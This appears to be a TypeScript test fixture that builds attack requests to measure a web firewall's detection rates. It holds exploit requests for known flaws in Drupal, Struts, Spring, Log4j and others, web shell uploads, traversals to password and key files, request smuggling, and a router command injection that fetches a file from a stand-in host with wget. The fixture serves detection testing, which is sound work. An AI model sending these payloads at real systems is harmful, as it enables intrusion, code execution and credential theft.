// More than three hundred attacks: each payload in several places and encodings, and requests that are attacks as a
// whole. Rules are not tuned to catch every one of them; `npm run detection` prints the detection rates.
import type { RequestSample } from '../request-sample.cases.ts'
import { type AttackClass, PAYLOADS } from './attack-payloads.cases.ts'
import { inForm, inJson, inMultipart, type NamedRequest, pick } from './named-request.cases.ts'

const encode = (text: string): string => encodeURIComponent(text).replaceAll("'", '%27')
const twice = (text: string): string => encode(encode(text))
/** Every character percent-encoded. */
const throughout = (text: string): string =>
  [...new TextEncoder().encode(text)].map((octet) => `%${octet.toString(16).padStart(2, '0')}`).join('')
const alternate = (text: string): string =>
  [...text].map((c, i) => (i % 2 === 0 ? c.toUpperCase() : c.toLowerCase())).join('')

type Delivery = readonly [name: string, send: (payload: string) => RequestSample]

const QUERY: Delivery = ['query', (payload) => ({ target: `/app/show?v=${encode(payload)}&lang=en` })]
const OTHERS: readonly [Delivery, ...Delivery[]] = [
  ['form', (payload) => inForm('/app/save', { title: 'x', field: payload })],
  ['JSON', (payload) => inJson('/api/v1/save', { a: { b: [payload] } })],
  ['query, encoded twice', (payload) => ({ target: `/app/show?v=${twice(payload)}` })],
  ['query, encoded throughout', (payload) => ({ target: `/app/show?v=${throughout(payload)}` })],
  ['multipart', (payload) => inMultipart('/app/save', [{ name: 'field', value: payload }])],
  ['cookie', (payload) => ({ target: '/app', headers: { cookie: `track=${encode(payload)}; lang=en` } })],
  [
    'JSON, escaped',
    (payload) => ({
      ...inJson('/api/v1/save', {}),
      body: `{"a":"${[...payload].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')}"}`,
    }),
  ],
  [
    'broken JSON',
    (payload) => ({ ...inJson('/api/v1/save', {}), body: `{"x":1,"a":${JSON.stringify(payload)}` }),
  ],
]

/** Classes whose payloads mean the same in any letter case. */
const CASELESS: ReadonlySet<AttackClass> = new Set(['SQL injection'])

function delivered(kind: AttackClass, payloads: readonly string[]): readonly NamedRequest[] {
  return payloads.flatMap((payload, i) => {
    const [name, send] = pick(OTHERS, i)
    const changed = CASELESS.has(kind) ? alternate(payload) : payload
    return [
      { kind, name: `${payload} in ${QUERY[0]}`, request: QUERY[1](payload) },
      { kind, name: `${payload} in ${name}`, request: send(changed) },
    ]
  })
}

const whole = (kind: string, list: Readonly<Record<string, RequestSample>>): readonly NamedRequest[] =>
  Object.entries(list).map(([name, request]) => ({ kind, name, request }))

const xml = (target: string, body: string): RequestSample => ({
  method: 'POST',
  target,
  headers: { 'content-type': 'text/xml' },
  body,
})

const KNOWN_HOLES = whole('known holes', {
  'Drupal render array': inForm(
    '/?q=user/password&name[%23post_render][]=passthru&name[%23type]=markup&name[%23markup]=id',
    { form_id: 'user_pass' },
  ),
  'Struts content type': {
    method: 'POST',
    target: '/login.do',
    headers: { 'content-type': "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse']}" },
  },
  'Struts redirect': { target: '/a.action?redirectAction:http://198.51.100.9/' },
  'Apache alias': { target: '/icons/.%2e/%2e%2e/%2e%2e/etc/passwd' },
  'Apache alias, twice': { target: '/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh' },
  'Confluence path': {
    target: '/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%22id%22%29%29%7D/',
  },
  'Spring functions': {
    method: 'POST',
    target: '/functionRouter',
    headers: { 'spring.cloud.function.routing-expression': 'T(java.lang.Runtime).getRuntime().exec("id")' },
  },
  'Spring loader': inForm('/reg', { 'class.module.classLoader.DefaultAssertionStatus': 'e' }),
  'heap dump': { target: '/manage/actuator/heapdump' },
  'Exchange autodiscovery': { target: '/autodiscover/autodiscover.json?e@e.example/powershell/?x=1' },
  'F5 pages': { target: '/tmui/login.jsp/..;/tmui/util/getTabSet.jsp?tabId=e' },
  'Citrix scripts': { target: '/vpn/../vpns/cfg/smb.conf' },
  'Grafana plugin': { target: '/public/plugins/graph/../../../../../../../../etc/grafana/grafana.ini' },
  PHPUnit: {
    ...xml('/lib/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '<?php echo 1;'),
    headers: { 'content-type': 'text/plain' },
  },
  ThinkPHP: {
    target:
      '/?s=index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id',
  },
  'PHP options': {
    target: '/php-cgi/php-cgi.exe?%ADd+allow_url_include%3D1+%ADd+auto_prepend_file%3Dphp://input',
  },
  'Laravel solution': inJson('/_ignition/execute-solution', {
    solution: 'Facade\\Ignition\\Solutions\\X',
    parameters: { viewFile: 'phar://e' },
  }),
  'WordPress settings': { target: '/wp-content/plugins/e/download.php?file=../../../wp-config.php' },
  'WordPress shell': { target: '/wp-content/uploads/2024/12/e.php?cmd=id' },
  'WordPress calls': xml(
    '/xmlrpc.php',
    '<?xml version="1.0"?><methodCall><methodName>system.multicall</methodName><params/></methodCall>',
  ),
  'Joomla lists': {
    target:
      '/index.php?option=com_fields&view=fields&layout=modal&list[fullordering]=extractvalue(0x0a,concat(0x0a,(select%20version())))',
  },
  'Joomla session': { target: '/', headers: { 'x-forwarded-for': '}__e|O:21:"JDatabaseDriverMysqli":0:{}' } },
  'Magento file': { target: '/app/etc/env.php' },
  'Solr template': {
    target: '/solr/a/select?q=1&wt=velocity&v.template=custom&v.template.custom=%23set(%24e=1)',
  },
  'WebLogic console': {
    target:
      '/console/images/%252E%252E%252Fconsole.portal?_nfpb=true&handle=com.tangosol.coherence.mvel2.sh.ShellSession(%22e%22)',
  },
  'vBulletin widget': inForm('/', {
    routestring: 'ajax/render/widget_php',
    'widgetConfig[code]': 'phpinfo();exit;',
  }),
  'camera language': xml('/SDK/webLanguage', '<?xml version="1.0"?><language>$(ls>e)</language>'),
  'GeoServer property': {
    target:
      '/geoserver/ows?service=WFS&request=GetPropertyValue&valueReference=exec(java.lang.Runtime.getRuntime(),%27id%27)',
  },
  'router page': {
    target: '/boaform/admin/formPing?target_addr=;wget%20http://198.51.100.9/e%20-O%20/tmp/e',
  },
  'function in a header': {
    target: '/cgi-bin/test.cgi',
    headers: { 'user-agent': '() { ignored; }; echo; /usr/bin/id' },
  },
  'look-up in a header': { target: '/', headers: { 'x-forwarded-for': '${jndi:dns://e.example.net/a}' } },
  'look-up in the path': { target: '/$%7Bjndi:ldap://198.51.100.9/e%7D/' },
})

const UPLOADS = whole('uploads', {
  shell: inMultipart('/upload', [
    { name: 'f', filename: 'e.php', type: 'image/png', value: '<?php system($_GET["e"]); ?>' },
  ]),
  'shell with two endings': inMultipart('/upload', [{ name: 'f', filename: 'e.php.png', value: 'x' }]),
  'shell in an image': inMultipart('/upload', [
    { name: 'f', filename: 'e.gif', value: 'GIF89a;<?php eval($_POST[1]);' },
  ]),
  'old name of PHP': inMultipart('/upload', [{ name: 'f', filename: 'e.PhTmL', value: 'x' }]),
  JSP: inMultipart('/upload', [
    { name: 'f', filename: 'e.jsp', value: '<% Runtime.getRuntime().exec(request.getParameter("e")); %>' },
  ]),
  ASPX: inMultipart('/upload', [{ name: 'f', filename: 'e.aspx', value: '<%@ Page Language="C#" %>' }]),
  'settings of Apache': inMultipart('/upload', [
    { name: 'f', filename: '.htaccess', value: 'AddType application/x-httpd-php .jpg' },
  ]),
  'path as a name': inMultipart('/upload', [{ name: 'f', filename: '../../html/e.php', value: 'x' }]),
  'image with a command': inMultipart('/upload', [
    {
      name: 'f',
      filename: 'e.mvg',
      value:
        'push graphic-context\nviewbox 0 0 1 1\nfill \'url(https://198.51.100.9/"|id; ")\'\npop graphic-context',
    },
  ]),
})

const PROTOCOL = whole('protocol', {
  'two lengths': {
    method: 'POST',
    target: '/',
    headers: { 'transfer-encoding': 'chunked', 'content-length': '6' },
    body: '0\r\n\r\nG',
  },
  'hidden transfer': { method: 'POST', target: '/', headers: { 'transfer-encoding': 'xchunked' } },
  'split response': { target: '/r?u=%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK' },
  'set cookie': { target: '/r?u=x%0d%0aSet-Cookie:%20admin=1' },
  'null octet': { target: '/a.php%00.jpg' },
  'settings file': { target: '/.env' },
  repository: { target: '/.git/HEAD' },
  dump: { target: '/backup/db.sql.gz' },
  keys: { target: '/.ssh/id_rsa' },
  'copy of settings': { target: '/wp-config.php.bak' },
  TRACE: { method: 'TRACE', target: '/' },
  'many ranges': {
    target: '/a.pdf',
    headers: { range: `bytes=${Array.from({ length: 40 }, (_, i) => `${i}-`).join(',')}` },
  },
  'SQL scanner': { target: '/?id=1', headers: { 'user-agent': 'sqlmap/1.8.2#stable (https://sqlmap.org)' } },
  'page scanner': {
    target: '/admin',
    headers: { 'user-agent': 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)' },
  },
  'hole scanner': {
    target: '/',
    headers: { 'user-agent': 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)' },
  },
  'operator in a form': inForm('/login', { 'username[$ne]': 'e', 'password[$gt]': '' }),
  'operator in JSON': inJson('/login', { username: { $regex: '^adm' }, password: { $ne: null } }),
  'prototype in JSON': inJson('/api/merge', { a: { constructor: { prototype: { admin: true } } } }),
  'prototype in the query': { target: '/api?__proto__[admin]=1' },
  'prototype in a key': { ...inJson('/api/merge', {}), body: '{"__proto__":{"admin":true}}' },
  'schema of GraphQL': inJson('/graphql', { query: '{__schema{types{name fields{name args{name}}}}}' }),
  'twice the same key': { ...inJson('/api/save', {}), body: '{"q":"1\' OR 1=1-- -","q":"ok"}' },
})

export const ATTACK_REQUESTS: readonly NamedRequest[] = [
  // The keys of the table are its classes, by its type.
  ...(Object.keys(PAYLOADS) as AttackClass[]).flatMap((kind) => delivered(kind, PAYLOADS[kind])),
  ...KNOWN_HOLES,
  ...UPLOADS,
  ...PROTOCOL,
]
